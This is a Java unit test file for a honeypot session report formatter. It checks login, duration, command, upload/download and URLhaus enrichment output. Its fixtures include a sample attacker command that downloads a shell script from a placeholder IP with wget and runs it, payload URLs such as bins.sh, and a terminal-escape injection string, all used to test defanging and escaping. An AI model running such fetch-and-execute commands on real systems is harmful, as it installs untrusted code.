package io.github.cowriekit.report;

import static io.github.cowriekit.report.Diary.command;
import static io.github.cowriekit.report.Diary.found;
import static io.github.cowriekit.report.Diary.notFound;
import static org.assertj.core.api.Assertions.assertThat;

import io.github.cowriekit.model.Command;
import io.github.cowriekit.model.Download;
import io.github.cowriekit.model.Endpoint;
import io.github.cowriekit.model.FileOrigin;
import io.github.cowriekit.model.Login;
import io.github.cowriekit.model.PublicKey;
import io.github.cowriekit.model.Session;
import io.github.cowriekit.model.SessionBuilder;
import io.github.cowriekit.model.SessionEnd;
import io.github.cowriekit.model.Upload;
import io.github.cowriekit.model.intel.EnrichedSession;
import io.github.cowriekit.model.intel.EnrichmentResult;
import io.github.cowriekit.model.intel.Observable;
import io.github.cowriekit.model.intel.urlhaus.UrlhausHostFacts;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class DiaryBlockTest {
    private static final String SOURCE = "192.0.2.7";
    private static final Instant AT = Instant.parse("2023-05-24T06:23:58Z");

    private final SessionBuilder session = Diary.session("aaaaaaaaaaaa", SOURCE, SessionEnd.CLOSED);

    @Nested
    class Durations {
        @ParameterizedTest
        @CsvSource({
            "PT123456.789S, 123456.789 seconds",
            "PT1000.5S, 1000.50 seconds",
            "PT0.00001S, 0.00001 seconds",
            "PT245.4S, 245.40 seconds",
            "PT1.234567S, 1.234567 seconds",
            "PT10S, 10.00 seconds",
            "PT100000S, 100000.00 seconds",
            "PT0S, 0.00 seconds",
            "PT0.000000001S, 0.000000001 seconds",
            "PT-1.5S, -1.50 seconds"
        })
        void areExactAndWithoutExponent(Duration duration, String shown) {
            assertThat(block(session.duration(duration))).contains("Session Duration  " + shown + "\n");
        }

        @Test
        void thatWereComputedSaySo() {
            assertThat(block(session.duration(Duration.ofMillis(3120)).durationDerived(true)))
                    .contains("Session Duration  3.12 seconds (derived)\n");
        }

        @Test
        void thatAreMissingSaySo() {
            assertThat(block(session)).contains("Session Duration  not logged\n");
        }
    }

    @Nested
    class Logins {
        @Test
        void byPublicKeyAreReported() {
            Login login = Login.builder()
                    .at(AT)
                    .username("git")
                    .publicKey(new PublicKey("ssh-ed25519", "5c:6b:8f:2f", "ssh-ed25519 AAAA"))
                    .success(true)
                    .build();
            assertThat(block(session.logins(List.of(login))))
                    .contains("Username  git\n")
                    .contains("Public Key  ssh-ed25519 5c:6b:8f:2f\n")
                    .contains("Timestamp  2023-05-24T06:23:58.000000Z\n")
                    .doesNotContain("Password");
        }

        @Test
        void thatFailedAreCounted() {
            assertThat(block(session.logins(List.of(login("a", "1", false), login("b", "2", false)))))
                    .contains("Username  b\n")
                    .contains("Password  2\n")
                    .contains("Login  failed (2 attempts)\n")
                    .doesNotContain("Login Attempts");
            assertThat(block(session.logins(List.of(login("a", "1", false))))).contains("Login  failed (1 attempt)\n");
        }

        @Test
        void showTheFirstThatSucceeded() {
            assertThat(block(session.logins(
                            List.of(login("a", "1", false), login("b", "2", true), login("c", "3", false)))))
                    .contains("Username  b\n")
                    .contains("Password  2\n")
                    .contains("Login Attempts  3 (2 failed)\n");
        }

        @Test
        void onlyOneNeedsNoCount() {
            assertThat(block(session.logins(List.of(login("a", "1", true)))))
                    .doesNotContain("Login Attempts")
                    .doesNotContain("Login  ");
        }

        @Test
        void thatNeverCameAreSaidToBeNone() {
            assertThat(block(session.startedAt(AT)))
                    .contains("Login  none\n")
                    .contains("Timestamp  2023-05-24T06:23:58.000000Z\n")
                    .doesNotContain("Username");
        }

        @Test
        void tellAnEmptyPasswordFromNone() {
            assertThat(block(session.logins(List.of(login("", "", true)))))
                    .contains("  Username\n")
                    .contains("  Password\n");
            assertThat(block(
                            session.logins(List.of(Login.builder().success(true).build()))))
                    .contains("Username  not logged\n")
                    .contains("Password  not logged\n")
                    .contains("Timestamp  not logged\n");
        }
    }

    @Nested
    class Commands {
        @Test
        void areCountedOnceAndTheFailedOnesApart() {
            List<Command> commands = List.of(new Command(null, "lockr", true, null), command("w"));
            assertThat(block(session.commands(commands))).contains("Total Commands Run  2 (1 failed)\n");
        }

        @Test
        void areCountedWithoutAnySource() {
            assertThat(block(session)).contains("Total Commands Run  0\n");
        }

        @Test
        void cannotForgeASession() {
            String forged = "ls\n\n\n" + "X".repeat(96) + "\n\n" + " ".repeat(23) + "Session  0123456789ab\r\n# rm";
            String text = block(session.commands(List.of(command(forged), command("\u001b]0;x\u0007\u009b2J"))));
            assertThat(text.lines().filter(line -> line.equals("X".repeat(96)))).hasSize(1);
            assertThat(text.lines().filter(line -> line.stripLeading().startsWith("Session  ")))
                    .hasSize(1);
            assertThat(text).contains("# $'\\x1b]0;x\\x07\\u009b2J'\n");
            assertThat(text.chars().filter(c -> (c < ' ' && c != '\n') || (c >= 0x7f && c < 0xa0)))
                    .isEmpty();
        }

        @Test
        void ofManyLinesStayOnOneLine() {
            assertThat(block(session.commands(List.of(command("cd /tmp\nwget http://192.0.2.1/x.sh\nsh x.sh")))))
                    .contains("# $'cd /tmp\\nwget http[://]192[.]0[.]2[.]1/x.sh\\nsh x.sh'\n");
        }

        @Test
        void thatWereCutByALimitAreCounted() {
            assertThat(block(session.commands(List.of(command("a"))).truncated(Map.of("commands", 26_742L))))
                    .contains("Total Commands Run  26743\n")
                    .contains("Cut By Limits  commands 26742\n")
                    .contains("# a\n… and 26742 more commands\n");
        }

        @Test
        void leaveNoSpaceBehindAnEmptyLine() {
            assertThat(block(session.commands(List.of(command(""))))).contains("\n#\n");
        }
    }

    @Nested
    class Files {
        @Test
        void writtenByRedirectionHaveNoUrlOfThePreviousDownload() {
            Download fetched = Download.builder(FileOrigin.URL)
                    .url("http://198.51.100.9/bins.sh")
                    .host("198.51.100.9")
                    .sha256(Diary.PERL_BOT)
                    .build();
            Download written = Download.builder(FileOrigin.REDIRECT)
                    .sha256(Diary.HOSTS_DENY)
                    .destination("/etc/hosts.deny")
                    .build();
            assertThat(block(session.downloads(List.of(fetched, written))))
                    .contains("Download URL  http[://]198[.]51[.]100[.]9/bins.sh\n")
                    .contains("Download URL\n" + label("Download SHA-256 Hash") + "  " + Diary.HOSTS_DENY);
        }

        @Test
        void sentByScpHaveAPathAndNoHost() {
            Upload upload = Upload.builder(FileOrigin.SCP)
                    .filename("x.sh")
                    .url("/tmp/x.sh")
                    .sha256(Diary.PERL_BOT)
                    .destination("/tmp/x.sh")
                    .build();
            assertThat(block(session.uploads(List.of(upload))))
                    .contains("\n------------------- UPLOAD DATA -------------------\n\n" + label("Upload URL")
                            + "  /tmp/x.sh\n" + label("Upload SHA-256 Hash") + "  " + Diary.PERL_BOT + "\n"
                            + label("Destination File") + "  /tmp/x.sh\n")
                    .doesNotContain("Source Address")
                    .doesNotContain("DOWNLOAD DATA");
        }

        @Test
        void sentBySftpShowTheirNameAndThatTheyCameLate() {
            Upload upload =
                    Upload.builder(FileOrigin.SFTP).filename("x.sh").late(true).build();
            assertThat(block(session.uploads(List.of(upload))))
                    .contains("Destination File  x.sh\n")
                    .contains("Upload Note  finished after the session was closed\n");
        }

        @Test
        void thatFailedSayWhy() {
            Download failed = Download.builder(FileOrigin.TFTP)
                    .url("tftp://192.0.2.1/x")
                    .host("192.0.2.1")
                    .failed(true)
                    .error("timed out\n")
                    .build();
            Download unexplained = Download.builder(FileOrigin.URL)
                    .url("http://192.0.2.1/y")
                    .failed(true)
                    .build();
            assertThat(block(session.downloads(List.of(failed, unexplained))))
                    .contains("Download URL  tftp[://]192[.]0[.]2[.]1/x\n")
                    .contains("Download Failed  $'timed out\\n'\n")
                    .contains("Download Source Address  192.0.2.1\n")
                    .contains("Download Failed  yes\n")
                    .doesNotContain("Hash");
        }

        @Test
        void ofOneHashAreShownEachTime() {
            Download file =
                    Download.builder(FileOrigin.REDIRECT).sha256(Diary.PERL_BOT).build();
            assertThat(block(session.downloads(List.of(file, file))).split(Diary.PERL_BOT, -1))
                    .hasSize(3);
        }

        @Test
        void fromAHostNobodyCanAskAboutAreShown() {
            for (String host : List.of("", ".", "[]")) {
                Download file = Download.builder(FileOrigin.URL)
                        .url("http://" + host)
                        .host(host)
                        .build();
                assertThat(block(session.downloads(List.of(file)))).contains("Download Source Address");
            }
        }
    }

    @Test
    void saysNothingOfSourcesThatNobodyAsked() {
        assertThat(block(session))
                .doesNotContain("URLhaus")
                .doesNotContain("ASNAME")
                .doesNotContain("VT ")
                .doesNotContain("SPUR");
    }

    @Test
    void survivesASessionOfWhichNothingIsKnown() {
        Session bare = Session.builder("aaaaaaaa", SessionEnd.EVICTED).build();
        assertThat(DiaryReportTest.write(Reports.diary().summary(false), List.of(EnrichedSession.of(bare))))
                .startsWith(label("Session") + "  aaaaaaaa\n")
                .contains("Protocol  not logged\n")
                .contains("Source IP Address  not logged\n")
                .contains("COMMANDS ATTEMPTED");
    }

    @Test
    void showsAnAnonymisedSourceAsItIs() {
        Session anonymous = session.source(new Endpoint("ab".repeat(32), null)).build();
        assertThat(DiaryReportTest.write(Reports.diary(), List.of(EnrichedSession.of(anonymous))))
                .contains("Source IP Address  " + "ab".repeat(32) + "\n");
    }

    @Test
    void sortsTagsSoThatReportsCanBeCompared() {
        UrlhausHostFacts facts = UrlhausHostFacts.builder()
                .urlCount(2L)
                .urls(List.of(
                        new UrlhausHostFacts.Url(
                                null, null, null, null, null, null, null, null, null, List.of("mirai", "elf")),
                        new UrlhausHostFacts.Url(
                                null, null, null, null, null, null, null, null, null, List.of("elf", "32-bit"))))
                .build();
        assertThat(block(session, found("urlhaus", Observable.ip(SOURCE), facts)))
                .contains("URLhaus IP Tags  32-bit, elf, mirai\n")
                .contains("URLhaus Malware URLs  2\n");
    }

    @Test
    void asksAboutADownloadHostItselfAndLabelsNamesAsAddresses() {
        Download file = Download.builder(FileOrigin.URL)
                .url("http://files.example/x")
                .host("files.example")
                .build();
        UrlhausHostFacts facts = UrlhausHostFacts.builder()
                .urls(List.of(new UrlhausHostFacts.Url(
                        null, null, null, null, null, null, null, null, null, List.of("mozi"))))
                .build();
        assertThat(block(
                        session.downloads(List.of(file)),
                        notFound("urlhaus", Observable.ip(SOURCE)),
                        found("urlhaus", Observable.host("files.example"), facts)))
                .contains("Source IP Address  " + SOURCE + "\n" + label("URLhaus IP Tags") + "\n")
                .contains("Download Source Address  files.example\n" + label("URLhaus IP Tags") + "  mozi\n");
    }

    private static Login login(String username, String password, boolean success) {
        return Login.builder()
                .at(AT)
                .username(username)
                .password(password)
                .success(success)
                .build();
    }

    static String label(String label) {
        return " ".repeat(30 - label.length()) + label;
    }

    static String block(SessionBuilder session, EnrichmentResult... results) {
        EnrichedSession enriched = new EnrichedSession(session.build(), List.of(results));
        return DiaryReportTest.write(Reports.diary().summary(false), List.of(enriched));
    }
}
